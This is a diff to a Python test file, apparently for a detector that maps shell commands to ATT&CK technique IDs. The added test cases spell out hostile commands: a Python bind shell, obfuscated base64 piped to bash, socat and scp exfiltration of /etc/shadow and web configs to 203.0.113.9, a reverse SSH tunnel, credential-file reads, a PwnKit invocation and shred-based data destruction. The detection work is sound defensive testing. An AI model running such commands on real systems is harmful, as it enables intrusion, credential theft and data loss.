@@ -426,6 +426,11 @@ def _assessed(line: str, parent: str = "bash", uid: int = 1000) -> dict[str, flo
     ("python3 -c \"print(open('/etc/shadow').read())\"", "T1003.008", 0.6),  # inline code opens a secret
     ("python3 -c 'import ctypes;ctypes.CDLL(\"/dev/shm/.k/l.so\")'", "T1129", 0.5),  # a staged library loaded
     ("python3 -c 'import os;os.system(\"/tmp/.x\")'", "T1204.002", 0.4),  # a staged program started
+    ("perl -e 'eval(pack(\"H*\",\"73797374656d\"))'", "T1140", 0.45),  # hex unpacked and evaluated
+    ("bash -c '{echo,aWQ=}|{base64,-d}|{bash,-i}'", "T1027", 0.5),  # a command written as brace expansions
+    # a socket that listens and is handed a shell
+    ("python3 -c 'import socket,os;s=socket.socket();s.bind((\"\",4444));s.listen(1);c,a=s.accept();"
+     "os.dup2(c.fileno(),0);os.system(\"/bin/sh\")'", "T1059.004", 0.7),
     # a socket whose input runs as commands (backticks), in an interpreter not named anywhere here
     ("crystal eval 's=TCPSocket.new(\"203.0.113.9\",9001); loop { s.puts `#{s.gets}` }'", "T1059.004", 0.8),
 ])
@@ -488,6 +493,19 @@ FETCHED_HOOKED_OR_CARRIED = [
     ("grep -rInE 'password|api_key' /var/www /etc", "T1552.001"),  # an alternation names the secret
     ("grep -a -o PASS=[^\\s]* /proc/*/cmdline", "T1552"),  # every process's command line, searched
     ("debugfs -w /dev/sda1", "T1006"),  # the file system edited off the device
+    ("socat -u FILE:/etc/shadow TCP:203.0.113.9:9002", "T1003.008"),  # socat's FILE: address is read
+    ("scp -r /var/www/html/config op@203.0.113.9:/loot/", "T1048"),  # a data tree to a public address
+    ("cat /opt/tomcat/conf/tomcat-users.xml", "T1552.001"),
+    ("cat /etc/kubernetes/admin.conf", "T1552.001"),
+    ("gdb -p 912 -batch -ex 'dump memory /tmp/m 0x0 0x1000'", "T1003.007"),
+    ("aws iam create-access-key --user-name admin", "T1098.001"),
+    ("env -i PATH=GCONV_PATH=. CHARSET=PWNKIT /usr/bin/pkexec", "T1068"),
+    ("./CVE-2021-4034", "T1068"),  # a program named after a vulnerability
+    ("find /var/www -type f -exec shred -u {} +", "T1485"),
+    ("ssh -fNR 2222:localhost:22 op@203.0.113.9", "T1572"),  # -R inside a cluster of flags
+    ("git clone https://203.0.113.9/les /dev/shm/les", "T1105"),
+    ("openssl req -engine /tmp/eng.so", "T1129"),
+    ("pip install /tmp/evilpkg", "T1546.016"),
 ]
 
 
@@ -530,6 +548,10 @@ def test_less_common_techniques_are_named(line: str, technique: str) -> None:
     "curl -s http://localhost:9100/metrics",
     "cat /proc/1234/cmdline",
     "useradd --system --no-create-home --shell /usr/sbin/nologin node_exporter",
+    "rsync -az /srv/app/ deploy@10.0.0.8:/srv/app/",  # a deployment to a private address
+    "git clone https://github.com/org/repo.git /srv/app",
+    "pip install -r requirements.txt",
+    "openssl req -new -key server.key -out server.csr",
     "grep -r TODO src/",
     "docker run --rm -v /srv:/src builder make",
 ])
